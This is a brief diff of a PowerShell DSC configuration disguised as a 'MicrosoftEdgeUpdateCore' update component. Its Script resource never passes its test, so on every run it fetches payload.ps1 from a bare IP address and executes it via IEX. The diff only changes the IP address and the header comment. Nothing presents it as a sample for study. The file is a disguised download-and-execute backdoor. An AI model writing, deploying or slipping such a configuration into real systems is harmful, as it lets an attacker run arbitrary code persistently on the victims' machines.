@@ -1,11 +1,11 @@
-# init 5979 v0
+# config 1852 v0
 Configuration MicrosoftEdgeUpdateCore {
   Import-DscResource -ModuleName PSDesiredStateConfiguration
   Node localhost {
     Script Bootstrap {
       GetScript = { @{ Result = '' } }
       TestScript = { $false }
-      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1') }
+      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/payload.ps1') }
     }
   }
 }
